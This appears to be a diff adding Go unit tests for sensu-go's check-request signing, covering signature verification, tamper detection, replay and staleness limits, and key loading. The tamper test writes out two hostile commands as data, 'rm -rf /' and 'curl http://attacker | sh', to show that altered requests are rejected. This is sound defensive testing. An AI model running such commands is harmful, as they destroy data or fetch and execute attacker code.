@@ -0,0 +1,127 @@
+package signing
+
+import (
+	"crypto/ecdsa"
+	"crypto/x509"
+	"encoding/json"
+	"encoding/pem"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/sensu/sensu-go/types"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSignVerify(t *testing.T) {
+	key, err := GenerateKey()
+	require.NoError(t, err)
+	keyring := NewKeyring(map[string]*ecdsa.PrivateKey{"default": key})
+	verifier := NewVerifier(&key.PublicKey)
+
+	request := types.FixtureCheckRequest("check1")
+	request.Issued = types.UnixMilli(time.Now())
+	request.Hooks = []types.HookConfig{*types.FixtureHookConfig("hook1")}
+	request.Config.Overrides = []types.CheckOverride{{Entity: "entity1", Interval: 30}}
+	assert.Equal(t, ErrMissingSignature, verifier.Verify(request))
+
+	require.NoError(t, keyring.Sign(request))
+	require.NotEmpty(t, request.Signature)
+	require.NoError(t, verifier.Verify(request))
+
+	// The signature survives the transport of the request to the agents
+	b, err := json.Marshal(request)
+	require.NoError(t, err)
+	transported := &types.CheckRequest{}
+	require.NoError(t, json.Unmarshal(b, transported))
+	require.NoError(t, verifier.Verify(transported))
+
+	// The request can't be altered
+	transported.Config.Command = "rm -rf /"
+	assert.Equal(t, ErrInvalidSignature, verifier.Verify(transported))
+	transported.Config.Command = request.Config.Command
+	transported.Hooks[0].Command = "curl http://attacker | sh"
+	assert.Equal(t, ErrInvalidSignature, verifier.Verify(transported))
+	transported.Hooks[0].Command = request.Hooks[0].Command
+	transported.Config.Overrides[0].Disabled = true
+	assert.Equal(t, ErrInvalidSignature, verifier.Verify(transported))
+	transported.Config.Overrides[0].Disabled = false
+	transported.Issued = types.UnixMilli(time.Now())
+	assert.Equal(t, ErrInvalidSignature, verifier.Verify(transported))
+
+	// Nor signed with another key
+	other, err := GenerateKey()
+	require.NoError(t, err)
+	assert.Equal(t, ErrInvalidSignature, NewVerifier(&other.PublicKey).Verify(request))
+}
+
+func TestVerifyStaleRequest(t *testing.T) {
+	key, err := GenerateKey()
+	require.NoError(t, err)
+	keyring := NewKeyring(map[string]*ecdsa.PrivateKey{"default": key})
+	verifier := NewVerifier(&key.PublicKey)
+
+	now := time.Now()
+	request := types.FixtureCheckRequest("check1")
+	request.Issued = types.UnixMilli(now)
+	require.NoError(t, keyring.Sign(request))
+
+	assert.NoError(t, verifier.verify(request, now.Add(MaxRequestAge-time.Second)))
+	assert.NoError(t, verifier.verify(request, now.Add(-MaxClockSkew+time.Second)))
+
+	// The requests replayed after they're stale are rejected
+	assert.Equal(t, ErrStaleRequest, verifier.verify(request, now.Add(MaxRequestAge+time.Second)))
+
+	// As are the requests issued too far in the future
+	assert.Equal(t, ErrStaleRequest, verifier.verify(request, now.Add(-MaxClockSkew-time.Second)))
+}
+
+func TestSignWithoutKey(t *testing.T) {
+	request := types.FixtureCheckRequest("check1")
+
+	var keyring *Keyring
+	require.NoError(t, keyring.Sign(request))
+	assert.Empty(t, request.Signature)
+
+	keyring = NewKeyring(map[string]*ecdsa.PrivateKey{})
+	require.NoError(t, keyring.Sign(request))
+	assert.Empty(t, request.Signature)
+}
+
+func TestLoadKeys(t *testing.T) {
+	dir, err := ioutil.TempDir("", "signing")
+	require.NoError(t, err)
+	defer func() { _ = os.RemoveAll(dir) }()
+
+	_, err = LoadKeyring(dir)
+	assert.Error(t, err)
+
+	key, err := GenerateKey()
+	require.NoError(t, err)
+	der, err := x509.MarshalECPrivateKey(key)
+	require.NoError(t, err)
+	params := pem.EncodeToMemory(&pem.Block{Type: "EC PARAMETERS", Bytes: []byte{6, 8, 42, 134, 72, 206, 61, 3, 1, 7}})
+	private := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: der})
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "default.pem"), append(params, private...), 0600))
+
+	der, err = x509.MarshalPKIXPublicKey(&key.PublicKey)
+	require.NoError(t, err)
+	publicPath := filepath.Join(dir, "default.pub")
+	require.NoError(t, ioutil.WriteFile(publicPath, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0644))
+
+	keyring, err := LoadKeyring(dir)
+	require.NoError(t, err)
+	verifier, err := LoadVerifier(publicPath)
+	require.NoError(t, err)
+
+	request := types.FixtureCheckRequest("check1")
+	request.Issued = types.UnixMilli(time.Now())
+	require.NoError(t, keyring.Sign(request))
+	assert.NoError(t, verifier.Verify(request))
+
+	_, err = LoadVerifier(filepath.Join(dir, "default.pem"))
+	assert.Error(t, err)
+}